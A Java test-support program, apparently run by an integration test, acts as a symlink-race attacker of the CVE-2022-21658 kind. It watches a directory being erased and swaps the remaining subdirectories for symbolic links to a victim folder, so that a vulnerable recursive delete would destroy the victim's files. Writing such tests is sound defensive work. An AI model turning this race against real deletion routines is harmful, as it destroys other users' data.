package org.sealpack.cli;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardWatchEventKinds;
import java.nio.file.WatchKey;
import java.nio.file.WatchService;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/**
 * The attacker of CVE-2022-21658's class, as a process of its own (run by {@link LeftoversIT}): for each
 * line {@code LEFTOVER VICTIM MOVED} on standard input it watches every subdirectory of the planted
 * leftover (inotify, through the JDK's WatchService), says {@code ready}, and at the first name deleted in
 * any of them (the erasure has begun) swaps every other subdirectory still there for a symbolic link to
 * the victim's folder (the real one moved into MOVED), then says {@code swapped N}. It acts on that
 * observed event only, never on a timer.
 */
public final class Planter {
    private Planter() {
    }

    public static void main(String[] args) throws Exception {
        BufferedReader in = new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
        for (String line; (line = in.readLine()) != null;) {
            String[] parts = line.split("\t");
            plant(Path.of(parts[0]), Path.of(parts[1]), Path.of(parts[2]));
        }
    }

    static void plant(Path leftover, Path victim, Path moved) throws IOException, InterruptedException {
        try (WatchService watch = FileSystems.getDefault().newWatchService()) {
            Map<WatchKey, Path> watched = new HashMap<>();
            List<Path> subdirectories;
            try (Stream<Path> s = Files.list(leftover)) {
                subdirectories = s.filter(Files::isDirectory).sorted().toList();
            }
            for (Path d : subdirectories) {
                watched.put(d.register(watch, StandardWatchEventKinds.ENTRY_DELETE), d);
            }
            watched.put(leftover.register(watch, StandardWatchEventKinds.ENTRY_DELETE,
                    StandardWatchEventKinds.ENTRY_CREATE), leftover);
            System.out.println("ready");
            System.out.flush();
            WatchKey first = watch.take();
            Path where = watched.get(first);
            int swapped = 0;
            for (Path d : subdirectories) {
                if (d.equals(where)) {
                    continue;
                }
                try {
                    Files.move(d, moved.resolve(d.getFileName()));
                    Files.createSymbolicLink(d, victim);
                    swapped++;
                } catch (IOException e) {
                    // erased already: too late for this one
                }
            }
            System.out.println("swapped " + swapped);
            System.out.flush();
        }
    }
}
